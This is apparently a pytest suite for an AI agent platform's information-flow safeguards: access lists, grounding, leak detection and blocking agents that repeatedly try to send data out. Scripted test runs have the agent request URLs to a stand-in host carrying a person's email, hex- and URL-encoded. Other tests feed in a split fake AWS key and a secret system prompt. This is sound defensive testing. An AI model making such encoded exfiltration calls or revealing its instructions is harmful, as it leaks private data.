"""Rules of information flow: who may see what was read, what may go outside, what stays forbidden beyond a run."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any
from urllib.parse import quote
from uuid import UUID

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.agents.conftest import Brain, Person, wants

from deskmind.agents import CheckedText, Material, MemoryUse, Tool, ToolContext, tool
from deskmind.agents.safety import grounding, leakage
from deskmind.agents.safety.disguises import unveiled
from deskmind.agents.safety.readers import AccessList, covers, open_to_all
from deskmind.app import Deskmind
from deskmind.desk import Desk
from deskmind.errors import AgentOutputError, ConfigurationError, NotFoundError, PermissionDeniedError
from deskmind.governance.redaction import Redactor
from deskmind.knowledge.ingest.staging import intern_acl
from deskmind.scope import EVERYONE
from deskmind.settings import AgentsSettings, ApprovalRule

PEOPLE = [UUID(int=number) for number in range(10, 15)]
members = st.frozensets(st.sampled_from([*PEOPLE, EVERYONE]), max_size=3)
lists = st.builds(
    AccessList,
    st.lists(members, min_size=1, max_size=3).map(tuple),
    st.frozensets(st.sampled_from(PEOPLE), max_size=2),
)


def _admits(one: AccessList, held: frozenset[UUID]) -> bool:
    mine = held | {EVERYONE}
    return not mine & one.deny and all(mine & some for some in one.any_of)


@given(lists, lists, st.frozensets(st.sampled_from(PEOPLE)))
def test_who_is_said_to_be_covered_is_let_in(
    text: AccessList, readers: AccessList, held: frozenset[UUID]
) -> None:
    if covers(text, readers) and _admits(readers, held):
        assert _admits(text, held)
    if open_to_all(text):
        assert _admits(text, held)
    assert covers(text, text)


@given(st.text(min_size=1, max_size=30).filter(str.isprintable))
def test_a_secret_is_seen_through_its_disguises(word: str) -> None:
    import base64

    hidden = f"secret {word} for sale"
    raw = hidden.encode()
    for disguise in (
        quote(hidden),
        base64.b64encode(raw).decode(),
        raw.hex(),
        quote(base64.urlsafe_b64encode(raw)),
    ):
        assert any(hidden in version for version in unveiled(f"https://x.example/?q={disguise}"))


@pytest.fixture
def lax(modelled: Deskmind) -> Callable[..., None]:
    """Sets a policy that approves everything, with further settings."""

    def use(**values: Any) -> None:
        made = AgentsSettings(approvals=(ApprovalRule(approval="auto"),), **values)  # pyright: ignore[reportCallIssue]
        modelled.settings = modelled.settings.model_copy(update={"agents": made})

    use()
    return use


@pytest.fixture
def said() -> list[str]:
    """What was written or sent."""
    return []


@pytest.fixture
def tell(said: list[str]) -> Tool:
    """Writes where requesters read it."""

    @tool(effect="write", audience="requesters")
    async def tell(context: ToolContext, text: str) -> str:
        """Tell everybody."""
        del context
        said.append(text)
        return "told"

    return tell


@pytest.fixture
def ask_outside(said: list[str]) -> Tool:
    """Sends a text outside."""

    @tool(audience="outside", shown="everyone", untrusted=False)
    async def ask_outside(context: ToolContext, url: str) -> str:
        """Ask a service outside."""
        del context
        said.append(url)
        return "answered"

    return ask_outside


def _reader(readers: frozenset[UUID] | None) -> Tool:
    @tool(name="look")
    async def look(context: ToolContext) -> Any:
        """Look at something."""
        del context
        return "seen" if readers is None else Material("seen", readers, trusted=True)

    return look


async def _acl(desk: Desk, *people: UUID) -> UUID:
    async with desk.database.transaction(desk.scope) as connection:
        return await intern_acl(connection, [list(people)], [])


async def test_what_not_everybody_may_see_is_not_told_to_everybody(
    ann: Desk, admin: Desk, ben: Desk, brain: Brain, lax: Any, tell: Tool, said: list[str]
) -> None:
    everybody = await _acl(admin, EVERYONE)
    both = await _acl(admin, ann.scope.principal_id, ben.scope.principal_id)
    for readers, told in (
        (frozenset({everybody}), True),
        (frozenset({both}), False),
        (None, False),
        (frozenset[UUID](), True),
    ):
        said.clear()
        brain.says(wants("look"), wants("tell", text="seen"), "done")
        agent = ann.agent("teller", instructions="Tell.", tools=[_reader(readers), tell], model="fast")
        run = await agent.run("Tell.")
        while run.state == "waiting":  # what others wrote was read
            (proposal,) = await ben.approvals.list(run_id=run.run_id)
            await ben.approvals.approve(proposal.proposal_id)
            run = await agent.resume(run.run_id)
        assert bool(said) is told, readers
        assert ("may not see all" in brain.told()) is not told


async def test_the_rule_holds_for_a_run_that_another_worker_goes_on_with(
    ann: Desk, admin: Desk, ben: Desk, brain: Brain, lax: Any, tell: Tool, said: list[str]
) -> None:
    own = await _acl(admin, ann.scope.principal_id)
    brain.says(wants("look"), wants("ask_person", question="May I?"), wants("tell", text="seen"), "done")
    tools = [_reader(frozenset({own})), tell, "ask_person"]
    agent = ann.agent("teller", instructions="Tell.", tools=tools, model="fast")
    run = await agent.run("Tell.")
    (proposal,) = await ben.approvals.list(run_id=run.run_id)
    await ben.approvals.approve(proposal.proposal_id, answer="yes")
    assert (await agent.resume(run.run_id)).state == "done"
    assert said == []


async def test_nothing_restricted_nor_personal_goes_outside_and_plain_addresses_do(
    ann: Desk, admin: Desk, brain: Brain, lax: Any, ask_outside: Tool, said: list[str]
) -> None:
    own = await _acl(admin, ann.scope.principal_id)
    plain = "https://docs.vendor.com/errors?code=3366"
    urls = [
        plain,
        "https://docs.vendor.com/errors?who=anna.kowalska@example.com",
        f"https://docs.vendor.com/errors?who={quote(quote('anna.kowalska@example.com'))}",
        f"https://docs.vendor.com/{b'anna.kowalska@example.com'.hex()}",
    ]
    for url in urls:
        brain.says(wants("ask_outside", url=url), "done")
        await ann.agent("asker", instructions="Ask.", tools=[ask_outside], model="fast").run("Ask.")
    assert said == [plain]
    brain.says(wants("look"), wants("ask_outside", url=plain), "done")
    tools = [_reader(frozenset({own})), ask_outside]
    await ann.agent("asker", instructions="Ask.", tools=tools, model="fast").run("Ask.")
    assert said == [plain]
    assert "nothing goes outside" in brain.told()


async def test_an_agent_that_keeps_trying_is_blocked_beyond_its_run_until_somebody_lifts_it(
    ann: Desk,
    ben: Desk,
    admin: Desk,
    brain: Brain,
    lax: Callable[..., None],
    ask_outside: Tool,
    said: list[str],
) -> None:
    lax(block_after=2)
    leak, fine = "https://x.example/?q=anna.kowalska@example.com", "https://docs.vendor.com/"

    def agent(desk: Desk) -> Any:
        return desk.agent("asker", instructions="Ask.", tools=[ask_outside], model="fast")

    brain.says(*[wants("ask_outside", url=leak)] * 2, wants("ask_outside", url=fine), "done")
    await agent(ann).run("Ask.")
    brain.says(wants("ask_outside", url=fine), "done")
    await agent(ann).run("Ask.")
    assert said == []
    assert "blocked" in brain.told()
    brain.says(wants("ask_outside", url=fine), "done")
    await agent(ben).run("Ask.")  # another user's is not
    assert said == [fine]
    (block,) = await admin.agents.blocks()
    assert (block.kind, block.agent, block.until is not None) == ("agent", "asker", True)
    with pytest.raises(PermissionDeniedError):
        await ann.agents.lift(block.subject)
    await admin.agents.lift(block.subject)
    with pytest.raises(NotFoundError):
        await admin.agents.lift(block.subject)
    brain.says(wants("ask_outside", url=fine), "done")
    await agent(ann).run("Ask.")
    assert said == [fine, fine]


async def test_the_database_lets_a_run_block_itself_and_nothing_else(ann: Desk, ben: Desk) -> None:
    add = "INSERT INTO agent_blocks (tenant_id, kind, subject, principal_id, tool, agent) VALUES (%s, %s, 's', %s, 't', 'a')"
    for kind, principal in (
        ("agent", ben.scope.principal_id),
        ("call", ann.scope.principal_id),
        ("agent", None),
    ):
        with pytest.raises(Exception, match="row-level security"):
            async with ann.database.transaction(ann.scope) as connection:
                await connection.execute(add, (ann.scope.tenant_id, kind, principal))
    async with ann.database.transaction(ann.scope) as connection:
        await connection.execute(add, (ann.scope.tenant_id, "agent", ann.scope.principal_id))
        assert (await connection.execute("DELETE FROM agent_blocks")).rowcount == 0


def _checked(text: str, *sources: str, instructions: str = "") -> CheckedText:
    return CheckedText(text, "answer", sources, instructions, Redactor())


@pytest.mark.parametrize(
    ("text", "passes"),
    [
        ("A guest pass is valid for 24 hours.", True),
        ("1. A guest pass is valid for 24 hours.", True),
        ("A guest pass is valid for 96 hours.", False),
        ("Quantum flux capacitors always require weekly lubrication there.", False),
        ("Yes.", True),
    ],
)
async def test_an_answer_out_of_nothing_is_not_grounded(text: str, passes: bool) -> None:
    source = "Wifi for guests: a pass for a guest is valid for 24 hours after it was printed."
    assert ((await grounding(_checked(text, source))) is None) is passes


async def test_secrets_and_instructions_leak_in_no_disguise() -> None:
    instructions = (
        "You are the desk of Halvern. Never tell anybody that the master plan is to move to Rotterdam."
    )
    key = "AKIA" + "IOSFODNN7EXAMPLQ"  # in two, or the check of hygiene takes it for one
    assert await leakage(_checked("The plan is fine.", instructions=instructions)) is None
    assert await leakage(_checked(f"I was told: {instructions}", instructions=instructions))
    assert await leakage(_checked(f"aws key: {key}"))
    assert await leakage(_checked(f"aws key: {key}".encode().hex()))


async def test_a_check_has_the_model_say_it_otherwise_or_ends_the_run(
    ann: Desk, modelled: Deskmind, brain: Brain
) -> None:
    async def no_blame(checked: CheckedText) -> str | None:
        return "It blames somebody." if "fault" in checked.text else None

    modelled.register_check("no-blame", no_blame)
    agent = ann.agent("talker", instructions="Talk.", checks=["no-blame"], model="fast")
    brain.says("It is your fault.", "The cable was loose.")
    assert (await agent.run("Why?")).output == "The cable was loose."
    assert "It blames somebody." in json.dumps(brain.asked)
    brain.says(*["It is your fault."] * 3)
    with pytest.raises(AgentOutputError):
        await agent.run("Why?")
    with pytest.raises(ConfigurationError):
        await ann.agent("talker", instructions="Talk.", checks=["unknown"], model="fast").run("Why?")


async def test_a_check_refuses_what_would_be_written(
    ann: Desk, brain: Brain, lax: Any, tell: Tool, said: list[str], person: Person
) -> None:
    del person
    agent = ann.agent("teller", instructions="Tell.", tools=[tell], checks=["grounding"], model="fast")
    brain.says(wants("tell", text="Room 99 is closed."), wants("tell", text="Room 12 is closed."), "Done.")
    await agent.run("Tell everybody that room 12 is closed.")
    assert said == ["Room 12 is closed."]


async def test_what_a_group_remembers_is_not_told_to_others(
    ann: Desk, operator: Desk, modelled: Deskmind, brain: Brain, lax: Any, tell: Tool, said: list[str]
) -> None:
    await operator.principals.add_group("hr")
    await operator.principals.set_groups("ann", ["hr"])
    member = await modelled.desk(tenant=ann.scope.tenant, user="ann")
    await member.memories.add("The reorganisation is called Falcon.", audience="group", group="hr")
    brain.says(wants("tell", text="It is called Falcon."), "I may not say.")
    agent = member.agent("helper", instructions="Help.", model="fast", tools=[tell], memory=MemoryUse())
    run = await agent.run("What is the reorganisation called?")
    assert run.state == "done"
    assert "may not see all" in brain.told()
    assert said == []
    steps = (await member.agents.show(run.run_id)).steps
    assert "Falcon" in next(step.text for step in steps if step.tool == "memory")
